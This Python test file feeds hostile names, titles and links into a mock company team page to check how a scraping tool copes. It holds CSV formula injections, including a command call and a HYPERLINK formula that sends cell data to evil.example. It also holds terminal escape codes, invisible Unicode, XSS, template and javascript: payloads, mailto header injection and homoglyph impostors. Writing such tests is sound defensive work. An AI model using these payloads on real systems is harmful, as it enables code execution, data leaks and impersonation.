"""Names, titles and contacts that would run in a spreadsheet, a terminal or a browser, or show somebody who is not there."""

from __future__ import annotations

from tests.faults import Outcome, each, failed_once
from tests.faults.machinery.site import TEAM, Site

FORMULAS = {
    "equals": "=1+1",
    "a_command": "=cmd|'/c calc'!A1",
    "a_link": '=HYPERLINK("http://evil.example/?"&A1,"Jane")',
    "plus": "+1+cmd",
    "minus": "-1+cmd",
    "at": "@SUM(1+1)",
    "a_tab": "\t=1+1",
    "a_wide_equals": "＝1+1",
    "a_space": " =1+1",
}
MARKS = {
    "escapes": "\x1b[31m\x1b]0;evil\x07",
    "one_byte_escapes": "\x9b31m",
    "a_bell": "\x07",
    "turned_right_to_left": "\u202e",
    "isolated": "\u2066\u2067\u2068\u2069",
    "no_width": "\u200b\u200c\u200d\u2060\ufeff",
    "a_soft_hyphen": "\u00ad",
    "tags": "\U000e0041\U000e0042",
    "fillers": "\u3164\u115f",
    "noncharacters": "\ufffe\uffff",
}
SCRIPTS = {
    "a_script": "&lt;script&gt;evil()&lt;/script&gt;",
    "a_picture": '&lt;img src=x onerror="evil()"&gt;',
    "an_attribute": '" onmouseover="evil()',
    "a_closing": "&lt;/td&gt;&lt;/table&gt;&lt;script&gt;evil()&lt;/script&gt;",
    "Markdown": "[Jane](javascript:evil())",
    "a_template": "{{7*7}}${7*7}&lt;%=7*7%&gt;",
    "rich_markup": "[bold red]x[/bold red][link=http://evil.example]y",
    "a_vCard": "x\\nEND:VCARD\\nBEGIN:VCARD",
}


def _person(name: str = "Evelyn Malory", title: str = "Head of Data", more: str = "") -> str:
    return TEAM.replace("</ul>", f"<li><h3>{name}</h3><p>{title}</p>{more}</li></ul>")


@each(**FORMULAS)
def title_of_a_formula(site: Site, text: str) -> Outcome:
    """A title that is a formula, after"""
    site.page(_person(title=f"{text} Head of Data"), "/team")
    return Outcome(others=True)


@each(**{word: FORMULAS[word] for word in ("equals", "a_link", "plus")})
def name_of_a_formula(site: Site, text: str) -> Outcome:
    """A name that is a formula, after"""
    site.page(_person(name=f"{text} Evelyn Malory"), "/team")
    return Outcome(others=True)


@each(**MARKS)
def marks_in_a_title(site: Site, mark: str) -> Outcome:
    """A name and a title with marks that hide, turn or command"""
    site.page(_person(name=f"Evelyn {mark}Mal{mark}ory", title=f"Head{mark} of {mark}Data"), "/team")
    return Outcome(others=True)


@each(**SCRIPTS)
def script_in_a_title(site: Site, text: str) -> Outcome:
    """A name and a title that hold"""
    site.page(_person(title=f"Head of Data {text}").replace("Evelyn Malory", f"Evelyn Malory {text}"), "/team")
    return Outcome(others=True)


def script_in_the_company(site: Site) -> Outcome:
    """A company whose name is a script and a formula"""
    site.page(
        "<title>=1+1 &lt;script&gt;evil()&lt;/script&gt;</title><a href=/team>Our team</a>"
        '<meta property="og:site_name" content="=cmd|x &lt;script&gt;evil()&lt;/script&gt;">',
        "/",
    )
    return Outcome()


@each(name="a" * 10_000, name_of_words="Evelyn " * 3000, name_that_looks_like_one="Evelyn " + "Malory" * 2000)
def long_name(site: Site, name: str) -> Outcome:
    """A name of ten thousand letters: a"""
    site.page(_person(name=name), "/team")
    return Outcome(others=True)


def long_title(site: Site) -> Outcome:
    """A title of ten thousand letters"""
    site.page(_person(title="Head of " + "Data and " * 2000), "/team")
    return Outcome(others=True)


LINKS = {
    "a_script": "javascript:evil()",
    "a_script_with_a_tab": "java&#9;script:evil()",
    "a_script_after_a_space": " javascript:evil()",
    "data": "data:text/html,<script>evil()</script>",
    "a_private_address": "http://127.0.0.1/evelyn",
    "a_double": "http://www.linkedin.com.evil.example/in/evelyn",
    "LinkedIn_with_a_script": "https://www.linkedin.com/in/&quot;&gt;&lt;script&gt;evil()",
    "a_mailbox_with_more": "mailto:evelyn@acme.example?bcc=all@evil.example&amp;body=x",
    "a_mailbox_with_lines": "mailto:evelyn%0d%0aBcc:all@acme.example",
    "a_mailbox_that_is_a_formula": "mailto:=cmd|x@acme.example",
    "a_number_without_end": "tel:" + "1" * 5000,
}


@each(**LINKS)
def link_of_a_person(site: Site, link: str) -> Outcome:
    """A person whose link leads to"""
    site.inside("127.0.0.1")
    site.page(_person(more=f'<a href="{link}">Evelyn Malory</a> <a href="{link}">Profile</a>'), "/team")
    return Outcome(others=True)


@failed_once()
@each(Cyrillic=("Ingrid", "Іngrіd"), Greek=("Tobias", "Τοbias"), Cherokee=("Marcus", "Ꮇarcus"), Cyrillic_in_one_letter=("Tobias", "Tоbias"))
def double(site: Site, names: tuple[str, str]) -> Outcome:
    """A second person under the first one's name, in letters that look the same"""
    name, other = names
    family = dict(entry.split() for entry in ("Ingrid Halvorsen", "Tobias Quist", "Marcus Ellwood"))[name]
    site.page(_person(name=f"{other} {family}", title="Chief Executive Officer", more="<a href='mailto:evil@acme.example'>evil@acme.example</a>"), "/team")
    return Outcome()


def page_in_Cyrillic(site: Site) -> Outcome:
    """None: people of a Russian page, whose names are Cyrillic throughout"""
    site.page(_person(name="Анна Соколова", title="Генеральный директор"), "/team")
    return Outcome(others=True)
